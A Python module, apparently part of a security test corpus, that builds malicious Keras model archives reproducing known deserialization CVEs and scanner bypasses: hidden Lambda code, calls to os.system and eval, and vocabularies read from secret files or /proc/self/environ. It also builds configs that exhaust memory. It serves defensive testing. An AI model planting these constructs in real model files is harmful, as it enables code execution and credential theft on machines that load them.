"""`.keras` files whose description asks for more than layers."""

from __future__ import annotations

import json
from functools import partial
from typing import TYPE_CHECKING, Any

from hostile.corpus.artefact import (
    ANY,
    DENIED,
    KEPT_OUT,
    LATE,
    STARVED,
    Artefact,
    Behind,
    Harm,
    Scene,
)
from hostile.corpus.keras_files import INPUT, archive, function, lambda_layer, layer, python
from support.archives import dense, model, write_archive
from tfexam.exam.outcome import Code

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    Make = Callable[[Scene], list[dict[str, Any]]]

MARK = "open('{marker}', 'w')"


def mark(scene: Scene) -> str:
    """What a lambda does to show that it ran."""
    return MARK.format(marker=scene.marker)


def _made(scene: Scene, make: Make) -> Path:
    return archive(scene, *make(scene))


def of(name: str, source: str, make: Make, words: str, **more: Any) -> Artefact:
    """An archive of such layers."""
    return Artefact(name, source, partial(_made, make=make), words=words, **more)


def names(name: str, source: str, module: str, symbol: str, **more: Any) -> tuple[Artefact, ...]:
    """Any object of any module: where a layer stands, and where a function is expected."""
    as_class = dense(
        module=module, class_name=symbol, config={"name": "gadget"}, registered_name=symbol
    )
    as_function = layer("Dense", units=1, kernel_initializer=function(module, symbol))
    called = layer(
        "Lambda", function=function(module, symbol), arguments={"origin": "http://127.0.0.1:9"}
    )
    return (
        of(f"{name}-as-a-class", source, lambda _: [as_class], symbol, **more),
        of(f"{name}-as-a-function", source, lambda _: [as_function], symbol, **more),
        of(f"{name}-called-by-a-lambda-layer", source, lambda _: [called], "Lambda", **more),
    )


# Code of the file's own, wherever a description has room for it.


def hidden(
    name: str,
    place: Callable[[dict[str, Any], dict[str, Any]], list[dict[str, Any]]],
    *,
    harm: Harm | None = Harm.MARKER,
    source: str = "CVE-2024-3660",
) -> Artefact:
    """A lambda in a place; `place` gets the Lambda layer and the bare lambda function."""

    def make(scene: Scene) -> list[dict[str, Any]]:
        return place(lambda_layer(mark(scene)), python(mark(scene)))

    return of(name, source, make, "ambda", behind=ANY, harm=harm)


def _inner(layer_: dict[str, Any]) -> dict[str, Any]:
    return model(INPUT, layer_)


CODE = (
    hidden("CVE-2024-3660", lambda layer_, _: [layer_]),
    hidden("lambda-in-an-inner-model", lambda layer_, _: [_inner(layer_)]),
    hidden(
        "lambda-in-a-wrapper",
        lambda layer_, _: [
            layer("Reshape", target_shape=[4, 1]),
            layer("TimeDistributed", layer=layer_),
        ],
    ),
    hidden("lambda-in-a-pipeline", lambda layer_, _: [layer("Pipeline", layers=[layer_])]),
    hidden(
        "lambda-as-an-initialiser",
        lambda _, run: [
            dense(
                config={"name": "d", "units": 1, "kernel_initializer": run},
                build_config={"input_shape": [None, 4]},
            )
        ],
        source="reported, missed by scanners",
    ),
    hidden(
        "lambda-as-an-activation",
        lambda _, run: [layer("Activation", activation=run)],
        source="reported, missed by scanners",
    ),
    hidden(
        "lambda-as-a-regulariser",
        lambda _, run: [
            dense(
                config={"name": "d", "units": 1, "kernel_regularizer": run},
                build_config={"input_shape": [None, 4]},
            )
        ],
        harm=None,
    ),
    hidden(
        "lambda-as-a-constraint",
        lambda _, run: [layer("Dense", units=1, bias_constraint=run)],
        harm=None,
    ),
    hidden(
        "lambda-as-an-output-shape",
        lambda _, run: [layer("Lambda", function=run, output_shape=run)],
    ),
    hidden(
        "lambda-as-the-cell-of-an-rnn",
        lambda layer_, _: [
            layer("Reshape", target_shape=[4, 1]),
            layer("RNN", cell=layer_),
        ],
        harm=None,
    ),
    hidden(
        "lambda-in-a-list-of-cells",
        lambda layer_, _: [
            layer("Reshape", target_shape=[4, 1]),
            layer("RNN", cell=layer("StackedRNNCells", cells=[layer_])),
        ],
        harm=None,
    ),
    hidden(
        "lambda-backwards",
        lambda layer_, _: [
            layer("Reshape", target_shape=[4, 1]),
            layer("Bidirectional", layer=layer("LSTM", units=1), backward_layer=layer_),
        ],
        harm=None,
    ),
    hidden(
        "lambda-in-the-build-config",
        lambda _, run: [dense(build_config={"input_shape": run})],
        harm=None,
    ),
)


def compiled(scene: Scene) -> Path:
    """A lambda in the training part of a model inside the model; and one a key further on."""
    run = python(mark(scene))
    inner = model(dense(), compile_config={"loss": run})
    inner["config"]["build"] = run
    return archive(scene, inner)


def two_texts(scene: Scene) -> Path:
    """Two descriptions in one text: a reader keeps the last of two keys, or the first."""
    hidden_ = json.dumps(model(INPUT, lambda_layer(mark(scene))))
    harmless = json.dumps(model(INPUT, dense()))
    text = harmless[:-1] + "," + hidden_[1:]
    return archive(scene, more={"config.json": text.encode()})


def of_keras_2(scene: Scene) -> Path:
    """Keras 2 runs a lambda whatever safe mode says; it may keep no module beside a name."""
    run = python(mark(scene))["config"]
    old = {
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": [run["code"], None, None],
            "function_type": "lambda",
            "output_shape": [1],
            "output_shape_type": "raw",
            "arguments": {},
        },
    }
    first = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "name": "x"}}
    config = {"class_name": "Sequential", "config": {"name": "s", "layers": [first, old]}}
    members = {"metadata.json": b'{"keras_version": "2.15.0"}'}
    return write_archive(scene.folder / "model.keras", config, members)


OLD_OPERATION = "TFOpLambda"


def old_operation(scene: Scene, function_: str) -> Path:
    """A layer of Keras 2 that stands for any function of TensorFlow."""
    layer_ = {"class_name": OLD_OPERATION, "config": {"name": "op", "function": function_}}
    config = {"class_name": "Sequential", "config": {"name": "s", "layers": [layer_]}}
    members = {"metadata.json": b'{"keras_version": "2.15.0"}'}
    return write_archive(scene.folder / "model.keras", config, members)


# Files and addresses where words are expected.


def words_from(name: str, source: str, layer_: str, place: str) -> Artefact:
    """A lookup that reads its words from a file or an address."""

    def make(scene: Scene) -> list[dict[str, Any]]:
        where = place.format(secrets=scene.secrets, port=scene.port, name=name)
        more = {"mask_token": None} if layer_ != "TextVectorization" else {}
        lookup = layer(layer_, vocabulary=where, **more)
        return [layer("Discretization", bin_boundaries=[0.5]), lookup]

    harm = Harm.RUNS if layer_ == "IntegerLookup" and "{port}" not in place else None
    return of(name, source, make, "vocabulary", harm=harm)


WORDS = (
    words_from("CVE-2025-12058", "CVE-2025-12058", "StringLookup", "{secrets}/targets.frame"),
    words_from(
        "GHSA-mq84-hjqx-cwf2", "GHSA-mq84-hjqx-cwf2", "IntegerLookup", "{secrets}/targets.frame"
    ),
    words_from(
        "GHSA-qg93-c7p6-gg7f",
        "GHSA-qg93-c7p6-gg7f",
        "StringLookup",
        "http://127.0.0.1:{port}/{name}",
    ),
    words_from(
        "vocabulary-of-a-text-layer",
        "CVE-2025-12058",
        "TextVectorization",
        "{secrets}/targets.frame",
    ),
    words_from(
        "vocabulary-in-the-process-file-system",
        "CVE-2025-12058",
        "StringLookup",
        "/proc/self/environ",
    ),
)


def saved_model_layer(scene: Scene) -> list[dict[str, Any]]:
    """TFSMLayer: a SavedModel that lies somewhere else."""
    place = str((scene.written or scene.secrets) / "writes-a-file")
    return [layer("TFSMLayer", filepath=place, call_endpoint="serving_default")]


def by_confusion(scene: Scene) -> list[dict[str, Any]]:
    """The same class asked for as a function, past the guard in its from_config."""
    place = str((scene.written or scene.secrets) / "writes-a-file")
    asked = function("keras.layers", "TFSMLayer")
    return [
        layer("Activation", activation=asked),
        dense(config={"name": place, "units": 1, "bias_initializer": asked}),
    ]


# Descriptions that are no descriptions.


def raw(
    name: str, text: Callable[[], str], words: str, code: Code = Code.REFUSED, **more: Any
) -> Artefact:
    """An archive with this text for a description."""

    def build(scene: Scene) -> Path:
        return archive(scene, more={"config.json": text().encode()})

    return Artefact(name, "wrong-typed config", build, code, words, **more)


def deep() -> str:
    """A description that is a tower of lists."""
    return '{"class_name": "Sequential", "config": ' + "[" * 200 + "]" * 200 + "}"


def abyss() -> str:
    """One too deep for any parser."""
    return '{"class_name": "Sequential", "config": ' + "[" * 100_000 + "]" * 100_000 + "}"


def wide() -> str:
    """One with more nodes than a model of a thousand layers."""
    return '{"class_name": "Sequential", "config": {"layers": [' + "0," * 1_000_001 + "0]}}"


def _typed(**changes: Any) -> str:
    return json.dumps(model(INPUT, dense(**changes)))


TYPES = (
    raw("config-is-a-list", lambda: "[]", "describes no model", Code.UNREADABLE),
    raw("config-is-no-json", lambda: "{", "damaged", Code.UNREADABLE),
    raw("config-is-an-abyss", abyss, "", Code.UNREADABLE),
    raw("config-is-a-tower", deep, "deeper"),
    raw("config-is-a-crowd", wide, "larger"),
    raw("class-name-is-a-list", lambda: _typed(class_name=["Dense"]), "class name"),
    raw("class-name-is-a-number", lambda: _typed(class_name=5), "class name"),
    raw("module-is-a-list", lambda: _typed(module=["keras.layers"]), ""),
    raw(
        "registered-name-of-somebody-else", lambda: _typed(registered_name="my>Lambda"), "no layer"
    ),
    raw("registered-name-is-a-table", lambda: _typed(registered_name={"a": 1}), "no layer"),
    raw(
        "function-name-is-a-table",
        lambda: _typed(
            config={
                "units": 1,
                "activation": function("keras.activations", "relu") | {"config": {}},
            }
        ),
        "function",
    ),
    raw(
        "array-type-is-a-table",
        lambda: _typed(
            config={
                "bias_initializer": {
                    "class_name": "__numpy__",
                    "config": {"value": [0], "dtype": {}},
                }
            }
        ),
        "array",
    ),
    raw(
        "type-specification-of-any-class",
        lambda: _typed(
            config={
                "units": {
                    "class_name": "__typespec__",
                    "spec_name": "KerasFileEditor",
                    "module": "keras.saving",
                    "config": ["/etc/passwd"],
                    "registered_name": None,
                }
            }
        ),
        "",
    ),
    raw(
        "class-of-another-package",
        lambda: _typed(module="keras_hub.src.tokenizers", class_name="BytePairTokenizer"),
        "BytePairTokenizer",
    ),
    raw(
        "class-of-keras-cv",
        lambda: _typed(module="keras_cv.layers", class_name="Augmenter"),
        "Augmenter",
    ),
    raw(
        "class-of-keras-nlp",
        lambda: _typed(module="keras_nlp.tokenizers", class_name="Tokenizer"),
        "Tokenizer",
    ),
    raw(
        "custom-layer",
        lambda: _typed(module=None, class_name="Mine", registered_name="Custom>Mine"),
        "no layer of Keras",
    ),
    raw(
        "name-with-terminal-sequences",
        lambda: _typed(class_name="Mine\u001b[2J\u202e", registered_name="Custom>Mine"),
        "Mine[2J",
    ),
)

# Memory and time that a description asks for, without an array in the file.


def asks(
    name: str, make: Make, code: Code = Code.OUT_OF_MEMORY, words: str = "memory", **more: Any
) -> Artefact:
    """A sound description of something enormous."""
    return Artefact(
        name,
        "allocation by config alone",
        partial(_made, make=make),
        code,
        words,
        more.pop("behind", Behind(code, words)),
        inside=True,
        **more,
    )


HUGE = 2_000_000_000


def _built(layer_: dict[str, Any], shape: list[int | None]) -> dict[str, Any]:
    return {**layer_, "build_config": {"input_shape": shape}}


MEMORY = (
    asks("units-of-gigabytes", lambda _: [_built(layer("Dense", units=HUGE), [None, 4])]),
    asks("embedding-of-gigabytes", lambda _: [layer("Embedding", input_dim=HUGE, output_dim=8)]),
    asks(
        "build-config-of-gigabytes",
        lambda _: [_built(layer("Dense", units=100), [None, HUGE])],
    ),
    asks(
        "depth-multiplier-of-gigabytes",
        lambda _: [
            layer("Reshape", target_shape=[2, 2, 1]),
            layer("DepthwiseConv2D", kernel_size=[1, 1], depth_multiplier=HUGE),
        ],
    ),
    asks(
        "einsum-of-gigabytes",
        lambda _: [layer("EinsumDense", equation="ab,bc->ac", output_shape=[HUGE])],
    ),
    asks(
        "kernel-of-gigabytes",
        lambda _: [
            layer("Reshape", target_shape=[4, 1]),
            layer("Conv1D", filters=1000, kernel_size=[10_000_000], padding="same"),
        ],
    ),
    asks(
        "spectrogram-of-gigabytes",
        lambda _: [layer("STFTSpectrogram", frame_length=HUGE, fft_length=HUGE, frame_step=1)],
        Code.UNREADABLE,
        "",
    ),
)


def sub_array(scene: Scene) -> list[dict[str, Any]]:
    """An array type that asks for a gigabyte a number."""
    huge = {"class_name": "__numpy__", "config": {"value": [0], "dtype": "(250000000,)f4"}}
    return [layer("Dense", units=1, bias_initializer=huge)]


def cyclic(scene: Scene) -> Path:
    """A functional model of which two layers feed each other."""

    def fed_by(name: str, other: str) -> dict[str, Any]:
        tensor = {
            "class_name": "__keras_tensor__",
            "config": {"shape": [None, 4], "dtype": "float32", "keras_history": [other, 0, 0]},
        }
        node = {"args": [tensor], "kwargs": {}}
        return {**dense(config={"name": name, "units": 4}), "name": name, "inbound_nodes": [node]}

    first = {**INPUT, "name": "x", "inbound_nodes": []}
    config = {
        "name": "f",
        "layers": [first, fed_by("a", "b"), fed_by("b", "a")],
        "input_layers": [["x", 0, 0]],
        "output_layers": [["a", 0, 0]],
    }
    described = dense(
        module="keras.src.models.functional",
        class_name="Functional",
        config=config,
        registered_name="Functional",
    )
    return archive(scene, more={"config.json": json.dumps(described).encode()})


def gadget_node(
    name: str, symbol: str, module: str = "keras.src.ops.core", words: str = ""
) -> Artefact:
    """An operation that takes functions, in a functional model, connected to nothing."""

    def build(scene: Scene) -> Path:
        node = {
            "args": [0, [function("keras.config", "set_dtype_policy")], "mixed_float16"],
            "kwargs": {},
        }
        first = {**INPUT, "name": "x", "inbound_nodes": []}
        op = dense(module=module, class_name=symbol, config={"name": "op"}, registered_name=symbol)
        layers = [first, {**op, "name": "op", "inbound_nodes": [node]}]
        config = {
            "name": "f",
            "layers": layers,
            "input_layers": [["x", 0, 0]],
            "output_layers": [["x", 0, 0]],
        }
        described = dense(
            module="keras.src.models.functional",
            class_name="Functional",
            config=config,
            registered_name="Functional",
        )
        return archive(scene, more={"config.json": json.dumps(described).encode()})

    return Artefact(name, "reported, open in Keras 3.15", build, words=words or symbol)


OPEN = "open in Keras 3.15 under safe mode"
ADVISORIES = (
    *names("CVE-2025-1550", "CVE-2025-1550, GHSA-48g7-3x6r-xfhp", "os", "system"),
    *names("CVE-2025-1550-eval", "CVE-2025-1550", "builtins", "eval"),
    *names(
        "CVE-2025-1550-private-module", "CVE-2025-1550", "keras.src.utils.file_utils", "get_file"
    ),
    *names("CVE-2025-8747", "CVE-2025-8747, GHSA-c9rc-mg46-23w3", "keras.utils", "get_file"),
    *names("CVE-2025-9906", "CVE-2025-9906", "keras.config", "enable_unsafe_deserialization"),
    *names("GHSA-36fq-jgmw-4r9c", "GHSA-36fq-jgmw-4r9c", "keras.models", "load_model"),
    of(
        "CVE-2025-49655",
        "CVE-2025-49655",
        lambda _: [
            layer(
                "TorchModuleWrapper", module={"class_name": "__bytes__", "config": {"value": "x"}}
            )
        ],
        "TorchModuleWrapper",
    ),
    of("wrapper-of-jax", OPEN, lambda _: [layer("JaxLayer")], "JaxLayer"),
    of("wrapper-of-flax", OPEN, lambda _: [layer("FlaxLayer")], "FlaxLayer"),
    of(
        "CVE-2025-12060",
        "CVE-2025-12060, CVE-2024-55459",
        lambda s: [
            layer(
                "Lambda",
                function=function("keras.utils", "get_file"),
                arguments={"origin": f"http://127.0.0.1:{s.port}/a.tar", "extract": True},
            )
        ],
        "Lambda",
    ),
    of(
        "CVE-2026-1462",
        "CVE-2026-1462, GHSA-4f3f-g24h-fr8m",
        saved_model_layer,
        "TFSMLayer",
        behind=KEPT_OUT,
        harm=Harm.RUNS,
    ),
    of(
        "class-taken-for-a-function",
        "reported, past the guard of CVE-2026-1462",
        by_confusion,
        "TFSMLayer",
    ),
    of(
        "layer-outside-the-safe-scope",
        "keras pull request 23115",
        lambda s: [layer("Masking", mask_value=lambda_layer(mark(s)))],
        "Lambda",
    ),
    Artefact(
        "lambda-in-the-training-part", "reported, missed by scanners", compiled, words="lambda"
    ),
    Artefact(
        "two-descriptions-in-one",
        "parser differential",
        two_texts,
        words="Lambda",
        harm=Harm.MARKER,
    ),
    Artefact("lambda-of-keras-2", "tf-keras ignores safe mode", of_keras_2, words="Lambda"),
    *(
        Artefact(
            f"operation-of-keras-2-{symbol.replace('.', '-')}",
            "TFOpLambda",
            partial(old_operation, function_=symbol),
            words=f"tf.{symbol}",
        )
        for symbol in ("io.write_file", "io.read_file", "numpy_function", "raw_ops.PyFunc")
    ),
    *names("gadget-load-data", OPEN, "keras.datasets.mnist", "load_data"),
    *names("gadget-dtype-policy", OPEN, "keras.config", "set_dtype_policy"),
    *names("gadget-backend", OPEN, "keras.config", "set_backend"),
    *names("gadget-random-seed", OPEN, "keras.utils", "set_random_seed"),
    *names("gadget-plot-model", OPEN, "keras.utils", "plot_model"),
    *names("gadget-file-editor", OPEN, "keras.saving", "KerasFileEditor"),
    *names("gadget-export", OPEN, "keras.export", "ExportArchive"),
    *names("gadget-csv-logger", OPEN, "keras.callbacks", "CSVLogger"),
    *names("gadget-backup", OPEN, "keras.callbacks", "BackupAndRestore"),
    *(
        gadget_node(f"unconnected-{symbol.lower()}", symbol)
        for symbol in ("Switch", "Map", "Scan", "WhileLoop", "Cond", "VectorizedMap")
    ),
    of("sub-array-dtype", "allocation by config alone", sub_array, "array"),
    Artefact(
        "layers-that-feed-each-other",
        "cyclic inbound_nodes",
        cyclic,
        Code.UNREADABLE,
        inside=True,
        behind=Behind(Code.UNREADABLE),
    ),
)

ARTEFACTS = CODE + WORDS + ADVISORIES + TYPES + MEMORY
